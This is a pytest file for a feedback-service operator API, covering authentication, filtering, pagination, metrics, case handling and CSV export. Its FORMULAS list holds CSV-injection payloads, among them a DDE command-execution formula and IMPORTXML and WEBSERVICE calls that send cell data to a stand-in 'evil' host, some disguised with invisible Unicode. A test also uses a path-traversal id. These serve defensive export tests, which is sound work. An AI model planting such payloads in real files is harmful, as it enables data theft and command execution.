"""The operator API: token, filters, pagination, metrics, cases."""

from __future__ import annotations

import json

import pytest

from tests.conftest import auth, drain, post_sms, table_items, twilio_params

MESSAGES = [
    ("+447700900008", "L8 freezing on this coach"),
    ("+447700900008", "driver was lovely, thank you"),
    ("+33639980012", "le car est sale, les toilettes degueulasses"),
    ("+33639980012", "le chauffeur roule comme un fou", "+447700900124"),  # another passenger: a case of its own
    ("+447700900101", "could you add more tills at lunchtime? would be great"),
    ("+447700900000", "what time does the last coach leave?"),
]


@pytest.fixture
def loaded(client):
    for i, (to, text, *sender) in enumerate(MESSAGES):
        params = twilio_params(body=text, to=to, sid=f"SM{i:032d}", **({"frm": sender[0]} if sender else {}))
        assert post_sms(client, params).status_code == 200
    drain()
    return client


@pytest.mark.parametrize("path", ["/api/feedback", "/api/metrics", "/api/cases"])
@pytest.mark.parametrize("headers", [{}, {"Authorization": "Bearer wrong"}, {"Authorization": "Basic abc"},
                                     {"Authorization": "Bearer "}])
def test_api_refuses_a_missing_or_wrong_token(client, path, headers):
    response = client.http.get(path, headers=headers)
    assert response.status_code == 401
    assert response.json_body == {"error": "missing or invalid operator token"}


def test_case_actions_need_the_token_too(loaded):
    [case] = loaded.http.get("/api/cases", headers=auth()).json_body["items"][:1]
    response = loaded.http.post(f"/api/cases/{case['id']}/ack")
    assert response.status_code == 401


def test_feedback_lists_newest_first_with_masked_numbers(loaded):
    data = loaded.http.get("/api/feedback", headers=auth()).json_body
    assert len(data["items"]) == len(MESSAGES)
    times = [i["received_at"] for i in data["items"]]
    assert times == sorted(times, reverse=True)
    assert {i["from"] for i in data["items"]} == {"+44 77•• •••123", "+44 77•• •••124"}
    assert all("+447700900123" not in str(i) and "+447700900124" not in str(i) for i in data["items"])


def test_feedback_filters_by_site_and_nature(loaded):
    data = loaded.http.get("/api/feedback?site=line-12", headers=auth()).json_body
    assert sorted(i["site"] for i in data["items"]) == ["line-12", "line-12"]
    data = loaded.http.get("/api/feedback?nature=compliment", headers=auth()).json_body
    assert [i["text"] for i in data["items"]] == ["driver was lovely, thank you"]
    data = loaded.http.get("/api/feedback?urgency=high&site=line-12", headers=auth()).json_body
    assert [i["text"] for i in data["items"]] == ["le chauffeur roule comme un fou"]
    data = loaded.http.get("/api/feedback?site=unknown", headers=auth()).json_body
    assert [i["text"] for i in data["items"]] == ["what time does the last coach leave?"]


def test_a_cursor_only_continues_the_query_it_came_from(loaded):
    cursor = loaded.http.get("/api/feedback?site=line-8&limit=1", headers=auth()).json_body["next_cursor"]
    assert cursor
    assert loaded.http.get(f"/api/feedback?site=line-8&limit=1&cursor={cursor}", headers=auth()).status_code == 200
    for other in ("/api/feedback?limit=1", "/api/feedback?site=line-12&limit=1",
                  "/api/feedback?site=line-8&limit=1&since=2020-01-01T00:00:00Z&until=2020-02-01T00:00:00Z"):
        response = loaded.http.get(f"{other}&cursor={cursor}", headers=auth())
        assert response.status_code == 400 and "cursor" in response.json_body["error"], other
    every_day = loaded.http.get("/api/feedback?limit=1", headers=auth()).json_body["next_cursor"]
    response = loaded.http.get(f"/api/feedback?site=line-8&limit=1&cursor={every_day}", headers=auth())
    assert response.status_code == 400
    cases = loaded.http.get("/api/cases?status=open&limit=1", headers=auth()).json_body["next_cursor"]
    assert cases
    assert loaded.http.get(f"/api/cases?status=resolved&cursor={cases}", headers=auth()).status_code == 400
    assert loaded.http.get(f"/api/cases?status=open&cursor={cases}", headers=auth()).status_code == 200


def test_feedback_cursor_pagination_visits_every_message_once(loaded):
    seen, cursor = [], None
    for _ in range(10):
        path = "/api/feedback?limit=4" + (f"&cursor={cursor}" if cursor else "")
        data = loaded.http.get(path, headers=auth()).json_body
        seen.extend(i["id"] for i in data["items"])
        cursor = data["next_cursor"]
        if not cursor:
            break
    assert sorted(seen) == sorted(m["id"] for m in table_items("MSG#"))
    assert len(seen) == len(set(seen))


@pytest.mark.parametrize("query,message", [
    ("limit=0", "limit"), ("limit=-5", "limit"), ("limit=100000", "limit"), ("limit=abc", "limit"),
    ("nature=angry", "nature"), ("site=line-99", "unknown site"), ("since=yesterday", "ISO 8601"),
    ("since=2026-11-20T00:00:00Z&until=2026-11-10T00:00:00Z", "before"), ("colour=red", "unknown parameter"),
    ("cursor=not-a-cursor", "cursor"), ("cursor=eyJrIjp7InBrIjp7Ik4iOiIxIn19fQ", "cursor"),
    ("since=2020-01-01T00:00:00Z", "period"),
])
def test_feedback_bad_queries_are_400_with_a_reason(client, query, message):
    response = client.http.get(f"/api/feedback?{query}", headers=auth())
    assert response.status_code == 400
    assert message in response.json_body["error"]


def test_metrics_are_exact_by_nature_topic_urgency_and_site(loaded):
    data = loaded.http.get("/api/metrics?bucket=day", headers=auth()).json_body
    totals = data["totals"]
    assert totals["messages"] == 6
    assert totals["nature"] == {"complaint": 3, "compliment": 1, "suggestion": 1, "question": 1, "unclear": 0}
    assert totals["urgency"] == {"normal": 5, "high": 1}
    assert totals["site"] == {"line-8": 2, "line-12": 2, "store-leeds": 1, "unknown": 1}
    assert sum(p["messages"] for p in data["series"]) == 6
    one = loaded.http.get("/api/metrics?site=line-8", headers=auth()).json_body
    assert one["totals"]["messages"] == 2 and one["totals"]["topic"]["comfort"] == 1


@pytest.mark.parametrize("query", ["bucket=week", "since=2026-01-01T00:00:00Z&bucket=hour", "site=nowhere", "x=1"])
def test_metrics_bad_queries_are_400(client, query):
    assert client.http.get(f"/api/metrics?{query}", headers=auth()).status_code == 400


def test_cases_are_listed_acknowledged_and_resolved(loaded):
    cases = loaded.http.get("/api/cases", headers=auth()).json_body["items"]
    # complaints at line-8 and line-12, the safety case, and the question to care
    assert len(cases) == 4
    case = next(c for c in cases if c["urgency"] == "high")
    assert case["customer"] == "+44 77•• •••124"
    # about the driver ("roule comme un fou"): to the line's manager and care, never to the driver
    assert {a["to"] for a in case["alerts"]} == {"ligne12@example.com", "care@example.com"}
    assert {a["status"] for a in case["alerts"]} == {"sent"}

    acked = loaded.http.post(f"/api/cases/{case['id']}/ack", headers={**auth(), "Content-Type": "application/json"},
                             body='{"by": "Marie (driver)"}')
    assert acked.status_code == 200
    assert acked.json_body["status"] == "acknowledged"
    assert acked.json_body["acknowledged_by"] == "Marie (driver) [operator]"  # the name typed, and the credential
    assert acked.json_body["seconds_to_acknowledge"] >= 0
    again = loaded.http.post(f"/api/cases/{case['id']}/ack", headers=auth())
    assert again.status_code == 409
    resolved = loaded.http.post(f"/api/cases/{case['id']}/resolve", headers=auth())
    assert resolved.status_code == 200 and resolved.json_body["status"] == "resolved"
    open_ids = [c["id"] for c in loaded.http.get("/api/cases?status=open", headers=auth()).json_body["items"]]
    assert case["id"] not in open_ids and len(open_ids) == 3
    done = loaded.http.get("/api/cases?status=resolved", headers=auth()).json_body["items"]
    assert [c["id"] for c in done] == [case["id"]]


@pytest.mark.parametrize("case_id,body,status", [
    ("ZZZZZZZZ", None, 404), ("../../etc", None, 404), ("abc", None, 404),
    ("VALIDID1", "not json", 400), ("VALIDID1", "[1, 2]", 400), ("VALIDID1", '{"by": "x", "role": "admin"}', 400),
])
def test_case_actions_with_bad_ids_or_bodies_are_4xx(client, case_id, body, status):
    headers = {**auth(), "Content-Type": "application/json"}
    response = client.http.post(f"/api/cases/{case_id}/ack", headers=headers, body=body or "")
    if "/" in case_id:  # not even a route: the gateway answers, with a 4xx and no stack trace
        assert 400 <= response.status_code < 500 and b"Traceback" not in response.body
    else:
        assert response.status_code == status


def test_cases_bad_status_is_400(client):
    assert client.http.get("/api/cases?status=closed", headers=auth()).status_code == 400


def test_metrics_filters_by_topic_nature_and_urgency_are_exact(loaded):
    complaints = loaded.http.get("/api/metrics?nature=complaint", headers=auth()).json_body
    assert complaints["totals"]["messages"] == 3
    topics = {k: v for k, v in complaints["totals"]["topic"].items() if v}
    assert topics == {"comfort": 1, "cleanliness": 1, "safety": 1}
    assert complaints["totals"]["urgency"] == {"normal": 2, "high": 1}
    assert complaints["totals"]["language"] is None  # not cross-counted: unknown under a filter
    # nor are acknowledgements and promises: null, not the unfiltered figure
    assert [complaints["totals"][k] for k in ("acknowledged", "median_seconds_to_acknowledge", "promises")] == [
        None, None, None]
    case = loaded.http.get("/api/cases?status=open", headers=auth()).json_body["items"][0]
    assert loaded.http.post(f"/api/cases/{case['id']}/ack", headers=auth()).status_code == 200
    unfiltered = loaded.http.get("/api/metrics", headers=auth()).json_body["totals"]
    assert unfiltered["acknowledged"] == 1 and unfiltered["median_seconds_to_acknowledge"] is not None
    compliments = loaded.http.get("/api/metrics?nature=compliment", headers=auth()).json_body["totals"]
    assert compliments["acknowledged"] is None and compliments["promises"] is None
    assert complaints["sites"]["line-12"]["messages"] == 2
    urgent = loaded.http.get("/api/metrics?urgency=high", headers=auth()).json_body
    assert urgent["totals"]["messages"] == 1
    assert {k: v for k, v in urgent["totals"]["site"].items() if v} == {"line-12": 1}
    one = loaded.http.get("/api/metrics?topic=comfort&nature=complaint&site=line-8", headers=auth()).json_body
    assert one["totals"]["messages"] == 1 and sum(p["messages"] for p in one["series"]) == 1
    none = loaded.http.get("/api/metrics?topic=price", headers=auth()).json_body
    assert none["totals"]["messages"] == 0


FORMULAS = [  # OWASP CSV injection: every leading character a spreadsheet reads as a formula
    "=HYPERLINK(\"http://evil\",\"x\")", "+SUM(1,2)", "-2+3", "@cmd", "\t=1", "=cmd|' /C calc'!A0",
    "=IMPORTXML(CONCAT(\"http://evil/?\",A1),\"//a\")", "=WEBSERVICE(\"http://evil\")", "@SUM(1+1)*cmd|' /C calc'!A0",
    "\uff1d1+1", "\uff0bSUM(1)", "\uff0d1", "\uff20A1", "\r=1+1", "-=1", "+=1", "=1;=2",
    "\ufe661+1", "\ufe62SUM(1)", "\ufe631", "\ufe6bA1", "\u200b=1+1",  # small forms, a zero-width space: NFKC
    # invisible and bidirectional characters before the formula (issue 20, item 9: the probe's nine)
    "\u034f=1+1", "\u00ad=1+1", "\u180e=1+1", "\u2061=1+1", "\u2066=1+1", "\u202e=1+1", "\u202a=1+1",
    "\u200f=1+1", "\u200e=1+1", "\u200e\u202e@SUM(1)",
]


def test_csv_export_neutralises_formulas_and_keeps_the_text(client):
    for i, text in enumerate(FORMULAS):
        post_sms(client, twilio_params(body=text, sid=f"SM{i:032d}", to="+447700900000", frm=f"+4477009004{i:02d}"))
    response = client.http.get("/api/export.csv", headers=auth())
    assert response.status_code == 200
    assert response.headers["Content-Type"].startswith("text/csv")
    import csv
    import io

    rows = list(csv.DictReader(io.StringIO(response.body.decode())))
    assert sorted(r["text"] for r in rows) == sorted("'" + t.strip() for t in FORMULAS)  # bodies are trimmed
    import unicodedata

    seen = [unicodedata.normalize("NFKC", r["text"]) for r in rows]
    visible = ["".join(c for c in t if unicodedata.category(c) not in ("Cf", "Mn", "Zs")) for t in seen]
    assert all(not text.startswith(("=", "+", "-", "@", "\t", "\r")) for text in visible)
    assert all(r["from"].startswith("'+44") for r in rows)  # masked numbers start with + too


def test_csv_export_follows_the_filters(loaded):
    response = loaded.http.get("/api/export.csv?site=line-12", headers=auth())
    lines = response.body.decode().strip().split("\r\n")
    assert len(lines) == 3 and lines[0].startswith("received_at,site")
    assert loaded.http.get("/api/export.csv?nature=bad", headers=auth()).status_code == 400


def test_csv_export_for_a_french_reader_opens_in_a_french_excel(loaded):
    # GIVEN messages at line-12 (Europe/Paris); WHEN a French reader exports them
    english = loaded.http.get("/api/export.csv?site=line-12", headers=auth()).body.decode()
    french = {**auth(), "Accept-Language": "fr-FR,fr;q=0.9"}
    for response in (loaded.http.get("/api/export.csv?site=line-12&locale=fr", headers=auth()),
                     loaded.http.get("/api/export.csv?site=line-12", headers=french)):
        body = response.body.decode("utf-8")
        # THEN a BOM (Excel reads UTF-8), ";" between cells, and Paris times as dd/mm/yyyy hh:mm:ss
        # the header's labels and the topic, nature, urgency, language and channel named in French
        header = "Reçu le;Site;Sujet;Nature;Urgence;Langue;De;Message;Réponse;Dossier;Canal"
        assert body.startswith("\ufeff" + header + "\r\n")
        import csv
        import io
        from datetime import datetime
        from pathlib import Path
        from zoneinfo import ZoneInfo

        rows = list(csv.DictReader(io.StringIO(body.lstrip("\ufeff")), delimiter=";"))
        iso = list(csv.DictReader(io.StringIO(english)))
        assert [r["Message"] for r in rows] == [r["text"] for r in iso] and len(rows) == 2
        french_names = json.loads(Path("chalicelib/locales/fr.json").read_text(encoding="utf-8"))
        for fr, en in zip(rows, iso, strict=True):
            utc = datetime.fromisoformat(en["received_at"].replace("Z", "+00:00"))
            paris = utc.astimezone(ZoneInfo("Europe/Paris"))
            assert fr["Reçu le"] == paris.strftime("%d/%m/%Y %H:%M:%S")
            for column, kind in (("Sujet", "topic"), ("Nature", "nature"), ("Urgence", "urgency"),
                                 ("Langue", "language_name"), ("Canal", "channel")):
                assert fr[column] == french_names[kind][en[kind.removesuffix("_name")]], (column, kind)
            assert (fr["Site"], fr["De"], fr["Dossier"]) == (en["site"], en["from"], en["case_id"])
        assert {r["Nature"] for r in rows} - {r["nature"] for r in iso}  # names, not ids
        assert {r["Langue"] for r in rows} <= {"anglais", "français", "autre"}  # not "English", "Français"
    # an English reader keeps the CSV as it was: "," and ISO 8601 times, no BOM
    assert loaded.http.get("/api/export.csv?site=line-12&locale=en", headers={**auth(), "Accept-Language": "fr"}
                           ).body.decode() == english
    assert not english.startswith("\ufeff")
    assert loaded.http.get("/api/export.csv?locale=de", headers=auth()).status_code == 400


def test_a_french_reader_is_known_by_the_locale_asked_else_by_accept_language():
    from chalicelib.api.feedback import reader_is_french
    from chalicelib.errors import ApiError

    assert reader_is_french("fr", None) and not reader_is_french("en", "fr-FR")
    assert reader_is_french(None, "fr") and reader_is_french(None, "fr-CA,en") and reader_is_french(None, "fr;q=1")
    assert not reader_is_french(None, "en-GB,fr;q=0.9") and not reader_is_french(None, None)
    with pytest.raises(ApiError):
        reader_is_french("FR", None)


def test_config_lists_sites_and_topics(client):
    data = client.http.get("/api/config", headers=auth()).json_body
    assert [s["id"] for s in data["sites"]] == ["line-8", "line-12", "store-leeds", "store-paris"]
    assert "comfort" in data["topics"] and data["natures"][0] == "complaint"


def test_day_metrics_read_day_items_and_stay_exact_at_the_period_edges(client):
    from datetime import UTC, datetime, timedelta

    import boto3

    from chalicelib.config_loader import get_config
    from infra.demo_data import generate, write

    now = datetime.now(UTC)
    messages, counters, cases = generate(get_config(), 600, 8, now=now, seed=5)
    write(boto3.client("dynamodb"), "voix-dev", messages, counters, cases)
    since, until = now - timedelta(days=6, hours=5), now - timedelta(days=1, hours=3)
    expected = [m for m in messages if since.isoformat()[:19] <= m["received_at"][:19] <= until.isoformat()[:19]]
    query = f"since={since.isoformat()[:19]}Z&until={until.isoformat()[:19]}Z&bucket=day"
    data = client.http.get(f"/api/metrics?{query}", headers=auth()).json_body
    # edge hours are read whole: compare with the messages of those whole hours
    hours = {m["hour"] for m in messages if since.strftime("%Y-%m-%dT%H") <= m["hour"] <= until.strftime("%Y-%m-%dT%H")}
    whole_hours = [m for m in messages if m["hour"] in hours]
    assert len(expected) <= data["totals"]["messages"] == len(whole_hours)
    assert len(data["series"]) in (6, 7)
    complaints = sum(1 for m in whole_hours if m["nature"] == "complaint")
    assert data["totals"]["nature"]["complaint"] == complaints
    filtered = client.http.get(f"/api/metrics?{query}&nature=complaint&urgency=high", headers=auth()).json_body
    assert filtered["totals"]["messages"] == sum(
        1 for m in whole_hours if m["nature"] == "complaint" and m["urgency"] == "high")


def test_acknowledging_records_the_time_to_acknowledge_in_the_metrics(loaded):
    before = loaded.http.get("/api/metrics", headers=auth()).json_body["totals"]
    assert before["acknowledged"] == 0 and before["median_seconds_to_acknowledge"] is None
    [case, other, *_] = loaded.http.get("/api/cases", headers=auth()).json_body["items"]
    assert loaded.http.post(f"/api/cases/{case['id']}/ack", headers=auth()).status_code == 200
    assert loaded.http.post(f"/api/cases/{case['id']}/resolve", headers=auth()).status_code == 200
    assert loaded.http.post(f"/api/cases/{other['id']}/resolve", headers=auth()).status_code == 200
    after = loaded.http.get("/api/metrics", headers=auth()).json_body
    assert after["totals"]["acknowledged"] == 2  # resolving an open case acknowledges it; the second resolve does not
    assert 0 <= after["totals"]["median_seconds_to_acknowledge"] <= 60
    day = loaded.http.get("/api/metrics?bucket=day", headers=auth()).json_body
    assert day["totals"]["acknowledged"] == 2


def test_demo_data_read_back_equals_what_was_generated(client, svc):
    """Counted once per site-hour, read back from the network's items and each site's: the same numbers."""
    from collections import Counter
    from datetime import UTC, datetime, timedelta

    import boto3

    from infra.demo_data import generate, write

    now = datetime.now(UTC)
    messages, counters, _ = generate(svc.config, 200, 4, now=now, seed=9)
    write(boto3.client("dynamodb"), "voix-dev", messages, counters, [], config=svc.config, now=now)
    assert not table_items("ROLL#")
    since = f"{(now - timedelta(days=5)).isoformat()[:19]}Z"
    by_day = client.http.get(f"/api/metrics?bucket=day&since={since}", headers=auth()).json_body
    by_hour = client.http.get(f"/api/metrics?bucket=hour&since={since}", headers=auth()).json_body
    assert by_day["totals"]["messages"] == by_hour["totals"]["messages"] == len(messages)
    natures = by_day["totals"]["nature"]
    assert natures == {n: sum(m["nature"] == n for m in messages) for n in natures}
    assert by_day["totals"]["channel"]["twilio"] == len(messages)  # by channel too, as the worker counts
    assert {p["t"]: p["messages"] for p in by_day["series"]} == dict(Counter(m["day"] for m in messages))
    per_site = Counter(m.get("site") or "unknown" for m in messages)
    assert by_day["totals"]["site"] == dict(per_site) and by_day["sites_ranked"] is None  # 4 sites: all listed
    complaints = Counter(m["site"] for m in messages if m.get("site") == "line-8" and m["nature"] == "complaint")
    site = client.http.get(f"/api/metrics?bucket=day&since={since}&site=line-8&nature=complaint",
                           headers=auth()).json_body
    assert site["totals"]["messages"] == complaints["line-8"] > 0
    assert site["totals"]["site"] == {"line-8": complaints["line-8"]}
    write(boto3.client("dynamodb"), "voix-dev", messages, counters, [], config=svc.config, now=now)  # a retry
    again = client.http.get(f"/api/metrics?bucket=day&since={since}", headers=auth()).json_body
    assert again["totals"] == by_day["totals"]  # counted once


def test_a_late_count_shows_at_once_in_the_site_and_network_views(client, svc):
    """No roll-up to refresh: a count landing in an hour long over is in both views at the next read."""
    from datetime import UTC, datetime, timedelta

    from chalicelib.clock import hour_key

    now = datetime.now(UTC)
    past = hour_key(now - timedelta(days=2))
    since = f"{(now - timedelta(days=3)).isoformat()[:13]}:00:00Z"
    assert client.http.get(f"/api/metrics?since={since}", headers=auth()).json_body["totals"]["messages"] == 0
    svc.store.counters.count_message(site="line-8", bucket=f"H#{past}", message_id="late-1",
                                     fields=["nature_complaint", "topic_comfort"], expires_at=0)
    for query in (f"since={since}", f"since={since}&bucket=day", f"since={since}&site=line-8"):
        fresh = client.http.get(f"/api/metrics?{query}", headers=auth()).json_body
        assert fresh["totals"]["messages"] == 1 and fresh["sites"]["line-8"]["nature"]["complaint"] == 1, query
    hourly = client.http.get(f"/api/metrics?since={since}&bucket=hour", headers=auth()).json_body
    assert [p["messages"] for p in hourly["series"] if p["t"].startswith(past)] == [1]
    assert not table_items("ROLL#")


def test_a_message_processed_after_its_hour_is_in_the_counts_of_that_hour(client, svc):
    """The worker, late (after an outage, or just past the hour), adds to its hour's and day's site and
    network counters, which the reads of a closed period use: nothing to roll up again."""
    from datetime import UTC, datetime, timedelta

    import boto3

    from chalicelib.worker import Worker

    assert post_sms(client, twilio_params("L8 the driver was brilliant today")).status_code == 200
    later = datetime.now(UTC) + timedelta(days=1)
    hour = table_items("MSG#")[0]["hour"]
    late = Worker(config=svc.config, store=svc.store, jobs=svc.jobs, sms=svc.worker._sms, email=svc.worker._email,
                  max_receives=5, now=lambda: later)
    sqs = boto3.client("sqs")
    url = sqs.get_queue_url(QueueName="voix-dev-jobs")["QueueUrl"]
    job = sqs.receive_message(QueueUrl=url, MaxNumberOfMessages=1)["Messages"][0]
    late.handle(json.loads(job["Body"]))
    buckets, fields = [f"H#{hour}", f"D#{hour[:10]}"], ["n", "nature_compliment"]
    counted = {bucket: {"n": 1, "nature_compliment": 1} for bucket in buckets}
    assert svc.store.counters.site_counts("line-8", buckets, fields) == counted
    assert svc.store.counters.network_counts(buckets, fields) == counted
    since = f"{hour}:00:00Z"
    for query in ("", "&site=line-8"):
        data = client.http.get(f"/api/metrics?since={since}&bucket=hour{query}", headers=auth()).json_body
        assert [(p["t"], p["nature"]["compliment"]) for p in data["series"]] == [(f"{hour}:00:00Z", 1)]


def test_a_promise_missed_after_its_hour_shows_in_the_site_and_network_views(domain):
    """An escalation counts a broken promise in the (closed) hour its case opened: both views see it."""
    from datetime import UTC, datetime

    from chalicelib.api import OperatorApi

    hour = "2026-01-01T10"
    domain.store.counters.add_counts(site="line-8", bucket=f"H#{hour}", counts={"n": 1}, expires_at=0)
    domain.store.counters.add_counts(site="line-8", bucket=f"H#{hour}", counts={"promise_missed": 1}, expires_at=0)
    api = OperatorApi(config=domain.config, store=domain.store, cases=domain.cases, offers=domain.offers,
                      now=lambda: datetime(2026, 1, 3, tzinfo=UTC))
    for site in ({}, {"site": "line-8"}):
        data = api.metrics({**site, "since": "2026-01-01T00:00:00Z", "bucket": "day"})
        assert data["totals"]["promises"]["missed"] == 1 and data["sites"]["line-8"]["promises"]["missed"] == 1


def test_a_csv_export_past_its_row_limit_keeps_the_newest_and_says_so(loaded, monkeypatch):
    import csv
    import io

    from chalicelib.api import feedback as api

    everything = loaded.http.get("/api/export.csv", headers=auth())
    rows = list(csv.DictReader(io.StringIO(everything.body.decode())))
    assert len(rows) >= 4 and "X-Voix-Truncated" not in everything.headers
    monkeypatch.setattr(api, "EXPORT_MAX_ROWS", len(rows))
    exact = loaded.http.get("/api/export.csv", headers=auth())
    assert "X-Voix-Truncated" not in exact.headers and exact.body == everything.body
    monkeypatch.setattr(api, "EXPORT_MAX_ROWS", 3)
    cut = loaded.http.get("/api/export.csv", headers=auth())
    assert cut.headers["X-Voix-Truncated"] == "true"
    assert list(csv.DictReader(io.StringIO(cut.body.decode()))) == rows[:3]


def test_a_viewer_reading_a_year_of_metrics_writes_nothing_and_gets_every_count(client, svc):
    """Nothing to roll up first: a year is read from the network's day items (and each site's of a small
    network), never a 5xx for want of a roll-up, never a write."""
    from datetime import UTC, datetime, timedelta

    from chalicelib import access
    from chalicelib.clock import hour_key, utcnow

    now = datetime.now(UTC)
    for i, days_ago in enumerate((200, 100, 10)):
        svc.store.counters.count_message(site="line-8", bucket=f"H#{hour_key(now - timedelta(days=days_ago))}",
                                         message_id=f"old-{i}", expires_at=0, fields=[
                                             "nature_complaint", "topic_comfort", "urgency_normal",
                                             "x_comfort_complaint_normal"])
    writes: list[str] = []
    svc.store.messages._db.meta.events.register(
        "before-call.dynamodb", lambda model, **_: writes.append(model.name) if model.name in (
            "PutItem", "UpdateItem", "BatchWriteItem", "DeleteItem", "TransactWriteItems") else None)
    viewer = access.mint(b"test-link-signing-key", "viewer", timedelta(hours=1), utcnow())[0]
    year = f"/api/metrics?bucket=day&since={(now - timedelta(days=365)).isoformat()[:19]}Z"
    for query in (year, year + "&site=line-8", year + "&nature=complaint"):
        response = client.http.get(query, headers=auth(viewer))
        assert response.status_code == 200, query
        data = response.json_body
        assert data["totals"]["messages"] == 3 and data["totals"]["nature"]["complaint"] == 3
        assert data["totals"]["site"] == {"line-8": 3} and len(data["series"]) == 3
    assert writes == []


def _overdue(case_id, when="2020-01-01T00:00:00Z"):
    import boto3

    boto3.client("dynamodb").update_item(
        TableName="voix-dev", Key={"pk": {"S": f"CASE#{case_id}"}, "sk": {"S": "CASE"}},
        UpdateExpression="SET promised_at = :p", ExpressionAttributeValues={":p": {"S": when}})


def test_open_cases_come_most_urgent_first_then_soonest_due_with_overdue_flagged_across_pages(loaded):
    before = loaded.http.get("/api/cases?status=open", headers=auth()).json_body["items"]
    normal = [c for c in before if c["urgency"] == "normal"]
    late = normal[-1]["id"]  # the one the old newest-first order put last
    _overdue(late)
    items = loaded.http.get("/api/cases?status=open", headers=auth()).json_body["items"]
    assert [c["urgency"] for c in items] == ["high", "normal", "normal", "normal"]
    assert items[1]["id"] == late and items[1]["overdue"] is True
    assert [c["overdue"] for c in items] == [False, True, False, False]
    rest = [c["promised_at"] for c in items[1:]]
    assert rest == sorted(rest)
    paged, cursor = [], None
    while True:  # one by one: the same order across pages
        page = loaded.http.get(f"/api/cases?status=open&limit=1{f'&cursor={cursor}' if cursor else ''}",
                               headers=auth()).json_body
        paged += [c["id"] for c in page["items"]]
        cursor = page["next_cursor"]
        if not cursor:
            break
    assert paged == [c["id"] for c in items]
    assert loaded.http.get("/api/cases?status=open&cursor=open:x", headers=auth()).status_code == 400


def test_a_dashboard_acknowledgement_records_who_never_null(loaded):
    first, second = loaded.http.get("/api/cases?status=open", headers=auth()).json_body["items"][:2]
    headers = {**auth(), "Content-Type": "application/json"}
    plain = loaded.http.post(f"/api/cases/{first['id']}/ack", headers=headers, body="{}").json_body
    assert plain["acknowledged_by"] == "operator"
    named = loaded.http.post(f"/api/cases/{second['id']}/resolve", headers=headers,
                             body=json.dumps({"by": "Aline Martin"})).json_body
    assert named["resolved_by"] == "Aline Martin [operator]"


def test_identity_comes_from_the_credential():
    from datetime import UTC, datetime, timedelta
    from hashlib import sha256

    from chalicelib import access

    now = datetime.now(UTC)
    key = b"k" * 32
    token = access.mint(key, "viewer", timedelta(hours=1), now, "wall screen")[0]
    assert access.identity(f"Bearer {token}", sha256(b"op").hexdigest(), key, now) == "viewer wall screen"
    assert access.identity("Bearer op", sha256(b"op").hexdigest(), key, now) == "operator"
    with pytest.raises(access.Refused):
        access.identity("Bearer forged", sha256(b"op").hexdigest(), key, now)


def test_config_gives_the_natures_and_time_zones(client):
    config = client.http.get("/api/config", headers=auth()).json_body
    assert "unclear" in config["natures"]
    assert {s["id"]: s["timezone"] for s in config["sites"]}["line-12"] == "Europe/Paris"
    assert config["timezone"] in ("Europe/London", "Europe/Paris")
